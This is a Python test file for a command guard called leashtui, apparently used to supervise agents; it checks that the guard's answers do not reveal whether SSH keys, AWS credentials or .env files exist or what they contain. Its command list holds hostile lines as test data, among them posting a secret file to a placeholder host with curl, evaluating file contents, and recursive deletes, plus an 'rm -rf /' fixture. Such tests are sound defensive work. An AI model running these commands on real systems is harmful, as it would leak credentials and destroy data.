"""Asking leash what it would say to an act does not tell whether a secret file is there, or what it holds."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from leashtui.guards.mcp.rpc import Message
from leashtui.model.facts import Facts
from leashtui.model.request import Action, Mode, Request
from leashtui.model.verdict import Decision
from leashtui.supervisor.adviser import Adviser
from leashtui.supervisor.rehearsal import Rehearsal
from leashtui.supervisor.repository import RepositoryProbe

SECRETS = ("~/.ssh/id_ed25519", "~/.aws/credentials", ".env")
OPEN = "notes.sh"
COMMANDS = (
    "cat P|rm P|bash P|. P|sh < P|cp P x|cp x P|mv x P|git add P|git commit -F P|sqlite3 P 'delete from t'|[ -s P ]"
    '|test -f P && rm -rf notes|wc -c P|curl -d @P http://h/|eval "$(cat P)"|echo x >> P|sed -i s/a/b/ P|xargs -a P rm'
    "|find . -newer P -delete|git -c include.path=P status|env -S P|crontab P|tar -T P -cf x|cat P*|rm P*|bash P*"
    "|cat link|bash link|rm link/x|rm -r P/..|cp -r P/.. x|P"
).split("|")
STATES: dict[str, bytes | None] = {
    "absent": None,
    "empty": b"",
    "a key": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n",
    "harm": b"rm -rf /\n",
}


def answers(root: Path, held: bytes | None, mode: Mode, place: str) -> dict[str, str]:
    """What is said to each act on the file at this place, which holds this."""
    shutil.rmtree(root, ignore_errors=True)
    home, work = root / "home", root / "work"
    (work / ".git").mkdir(parents=True)
    path = home / place[2:] if place.startswith("~/") else work / place
    path.parent.mkdir(parents=True, exist_ok=True)
    (work / "link").symlink_to(path)
    if held is not None:
        path.write_bytes(held)
        path.chmod(0o755)
    judge = Rehearsal(mode, root / "none", "dev", RepositoryProbe, str(work))

    def consult(request: Request) -> tuple[Facts, Decision]:
        if request.action is Action.PROCESS_EXEC:
            judged = judge.judge(request.script, cwd=request.cwd, home=str(home), workspace=str(work))
            return judged.facts, judged.decision
        facts = judge._engine(str(work), str(home), ())(request)
        return facts, judge._pdp.decide(request, facts)

    adviser = Adviser(consult, lambda: (), str(work), lambda: "")

    def said(**arguments: str) -> str:
        params = {"name": "leash_check", "arguments": arguments}
        return adviser.answer(Message(id=1, method="tools/call", params=params, expects=True)).decode()

    found = {line: said(command=line.replace("P", place)) for line in COMMANDS}
    return found | {access: said(path=str(path), access=access) for access in ("read", "write", "delete")}


def told_apart(root: Path, mode: Mode, place: str) -> set[str]:
    """The acts to which something else is said by what the file holds, or, outside of the workspace, whether there is
    one: which files the workspace has anybody may list."""
    listed = not place.startswith("~/")
    every = [answers(root, held, mode, place) for held in STATES.values() if held is not None or not listed]
    return {act for act in every[0] if len({found[act] for found in every}) > 1}


@pytest.mark.parametrize("mode", [Mode.KERNEL, Mode.SHIM])
@pytest.mark.parametrize("place", SECRETS)
def test_a_secret_is_not_told(place: str, mode: Mode, tmp_path: Path) -> None:
    assert told_apart(tmp_path / "w", mode, place) == set()


def test_what_anybody_may_read_is_judged_by_what_it_holds(tmp_path: Path) -> None:
    assert "bash P" in told_apart(tmp_path / "w", Mode.KERNEL, OPEN)
